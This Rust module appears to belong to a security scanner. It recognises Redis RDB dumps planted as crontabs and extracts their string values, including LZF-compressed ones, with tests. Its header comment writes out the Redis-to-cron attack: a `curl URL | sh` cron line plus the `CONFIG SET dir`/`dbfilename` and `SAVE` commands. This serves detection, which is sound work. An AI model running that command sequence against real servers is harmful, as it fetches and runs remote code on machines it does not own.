//! Redis RDB dumps met where a text file belongs.
//!
//! The classic attack on an unauthenticated Redis (Kinsing/H2Miner, TeamTNT, WatchDog, 8220
//! Gang) is `SET x "\n\n*/1 * * * * curl URL | sh\n\n"`, `CONFIG SET dir /var/spool/cron`,
//! `CONFIG SET dbfilename root`, `SAVE`: Redis writes its whole database as an RDB dump into a
//! crontab (or an `authorized_keys`, a profile, a web root). The file begins with the magic
//! `REDIS` and four version digits, and holds the planted value between binary framing; cronie
//! skips the binary lines and runs the cron line.
//!
//! [`is_rdb`] recognises such a file and [`strings`] walks its framing (Redis 2.6 to 7.x,
//! versions 0006 to 0012: auxiliary fields, database selectors, expiry times, string keys and
//! values, LZF-compressed strings, which Redis writes for any value over 20 bytes that
//! compresses) to give back the string values, so that a planted line is found even when
//! compression hides it from a line-by-line reader. The walk stops at the first record it
//! does not know (a list, hash or module value) and says so; it never panics and its cost is
//! linear in the input.
//!
//! ```
//! use ferret_core::rdb::{is_rdb, strings};
//! // `SET x "\n* * * * * id\n"` then `SAVE`, as Redis 7.0 writes it (aux fields left out).
//! let dump = b"REDIS0010\xfe\x00\xfb\x01\x00\x00\x01x\x0e\n* * * * * id\n\xff\0\0\0\0\0\0\0\0";
//! assert!(is_rdb(dump));
//! let s = strings(dump);
//! assert!(s.complete);
//! assert_eq!(s.values, vec![b"\n* * * * * id\n".to_vec()]);
//! ```

/// The most bytes one decoded string may have (an LZF record says its own length; a crafted
/// one must not make us allocate gigabytes).
pub const MAX_STRING: usize = 4 << 20;

/// Whether `data` starts like an RDB dump: `REDIS` and four ASCII digits.
pub fn is_rdb(data: &[u8]) -> bool {
    data.len() >= 9
        && data.starts_with(b"REDIS")
        && data
            .get(5..9)
            .is_some_and(|v| v.iter().all(u8::is_ascii_digit))
}

/// What [`strings`] found in a dump.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
#[non_exhaustive]
pub struct RdbStrings {
    /// The RDB version (`REDIS0011` is 11); 0 when the magic is missing.
    pub version: u32,
    /// The string values of string keys, decompressed, in file order (keys and auxiliary
    /// fields such as `redis-ver` are not included).
    pub values: Vec<Vec<u8>>,
    /// Whether the walk reached the end-of-file opcode; false when it stopped at a record it
    /// does not decode (a list, a hash, a module value) or at truncated or malformed bytes.
    pub complete: bool,
}

struct Reader<'a> {
    data: &'a [u8],
    pos: usize,
}

enum Len {
    Plain(u64),
    /// The special encodings: 0, 1, 2 are 8, 16, 32-bit integers, 3 is LZF.
    Special(u8),
}

impl<'a> Reader<'a> {
    fn byte(&mut self) -> Option<u8> {
        let b = *self.data.get(self.pos)?;
        self.pos += 1;
        Some(b)
    }

    fn take(&mut self, n: u64) -> Option<&'a [u8]> {
        let n = usize::try_from(n).ok()?;
        let end = self.pos.checked_add(n)?;
        let s = self.data.get(self.pos..end)?;
        self.pos = end;
        Some(s)
    }

    fn len(&mut self) -> Option<Len> {
        let b = self.byte()?;
        Some(match b >> 6 {
            0 => Len::Plain(u64::from(b & 0x3f)),
            1 => Len::Plain((u64::from(b & 0x3f) << 8) | u64::from(self.byte()?)),
            2 => match b {
                0x80 => Len::Plain(u64::from(u32::from_be_bytes(
                    self.take(4)?.try_into().ok()?,
                ))),
                0x81 => Len::Plain(u64::from_be_bytes(self.take(8)?.try_into().ok()?)),
                _ => return None,
            },
            _ => Len::Special(b & 0x3f),
        })
    }

    fn plain_len(&mut self) -> Option<u64> {
        match self.len()? {
            Len::Plain(n) => Some(n),
            Len::Special(_) => None,
        }
    }

    /// A string: raw, an integer (as its decimal text, as Redis loads it) or LZF-compressed.
    fn string(&mut self) -> Option<Vec<u8>> {
        match self.len()? {
            Len::Plain(n) => {
                if n > MAX_STRING as u64 {
                    return None;
                }
                self.take(n).map(<[u8]>::to_vec)
            }
            Len::Special(0) => Some(i64::from(self.byte()? as i8).to_string().into_bytes()),
            Len::Special(1) => Some(
                i64::from(i16::from_le_bytes(self.take(2)?.try_into().ok()?))
                    .to_string()
                    .into_bytes(),
            ),
            Len::Special(2) => Some(
                i64::from(i32::from_le_bytes(self.take(4)?.try_into().ok()?))
                    .to_string()
                    .into_bytes(),
            ),
            Len::Special(3) => {
                let clen = self.plain_len()?;
                let len = self.plain_len()?;
                if len > MAX_STRING as u64 {
                    return None;
                }
                let src = self.take(clen)?;
                lzf_decompress(src, usize::try_from(len).ok()?)
            }
            Len::Special(_) => None,
        }
    }
}

/// LZF decompression as `lzf_d.c` does it; `None` when the data does not decode to exactly
/// `len` bytes.
pub fn lzf_decompress(src: &[u8], len: usize) -> Option<Vec<u8>> {
    let mut out: Vec<u8> = Vec::with_capacity(len.min(MAX_STRING));
    let mut i = 0;
    while i < src.len() {
        let ctrl = usize::from(*src.get(i)?);
        i += 1;
        if ctrl < 32 {
            // A literal run of ctrl + 1 bytes.
            let run = src.get(i..i + ctrl + 1)?;
            if out.len() + run.len() > len {
                return None;
            }
            out.extend_from_slice(run);
            i += ctrl + 1;
        } else {
            // A back reference: length 3 bits (7 = one more byte), offset 13 bits.
            let mut n = ctrl >> 5;
            if n == 7 {
                n += usize::from(*src.get(i)?);
                i += 1;
            }
            let back = ((ctrl & 0x1f) << 8) + usize::from(*src.get(i)?) + 1;
            i += 1;
            n += 2;
            if back > out.len() || out.len() + n > len {
                return None;
            }
            let start = out.len() - back;
            // Byte by byte: the reference may overlap what it writes.
            for k in 0..n {
                let c = *out.get(start + k)?;
                out.push(c);
            }
        }
    }
    (out.len() == len).then_some(out)
}

/// The string values of an RDB dump (see the [module docs](self)).
pub fn strings(data: &[u8]) -> RdbStrings {
    let mut res = RdbStrings::default();
    if !is_rdb(data) {
        return res;
    }
    res.version = std::str::from_utf8(data.get(5..9).unwrap_or_default())
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    let mut r = Reader { data, pos: 9 };
    res.complete = walk(&mut r, &mut res.values).is_some();
    res
}

/// Walks the records; `Some(())` at the EOF opcode, `None` where it stops.
fn walk(r: &mut Reader<'_>, values: &mut Vec<Vec<u8>>) -> Option<()> {
    loop {
        match r.byte()? {
            // EOF (the 8-byte checksum follows from version 5).
            0xff => return Some(()),
            // SELECTDB, IDLE: a length.
            0xfe | 0xf8 => {
                r.plain_len()?;
            }
            // RESIZEDB
            0xfb => {
                r.plain_len()?;
                r.plain_len()?;
            }
            // EXPIRETIME_MS, EXPIRETIME: the key follows.
            0xfc => {
                r.take(8)?;
            }
            0xfd => {
                r.take(4)?;
            }
            // AUX: two strings.
            0xfa => {
                r.string()?;
                r.string()?;
            }
            // FREQ: one byte.
            0xf9 => {
                r.byte()?;
            }
            // SLOT_INFO (Redis 7.4 cluster): three lengths.
            0xf4 => {
                r.plain_len()?;
                r.plain_len()?;
                r.plain_len()?;
            }
            // A string key and value.
            0 => {
                r.string()?;
                values.push(r.string()?);
            }
            // Lists, sets, hashes, modules, functions: not decoded.
            _ => return None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lzf_literal_and_backref() {
        // "abcabcabc": literal "abc" (ctrl 2), back ref len 6 offset 3 (ctrl (6-2)<<5, off 2).
        let src = [2, b'a', b'b', b'c', 4 << 5, 2];
        assert_eq!(lzf_decompress(&src, 9).as_deref(), Some(&b"abcabcabc"[..]));
        assert_eq!(lzf_decompress(&src, 8), None);
        assert_eq!(lzf_decompress(&[4 << 5, 9], 6), None);
    }

    #[test]
    fn not_rdb() {
        assert!(!is_rdb(b"REDIS"));
        assert!(!is_rdb(b"* * * * * root id\n"));
        assert_eq!(strings(b"REDISxxxx").version, 0);
        let s = strings(b"REDIS0009\xfe");
        assert!(!s.complete);
    }
}
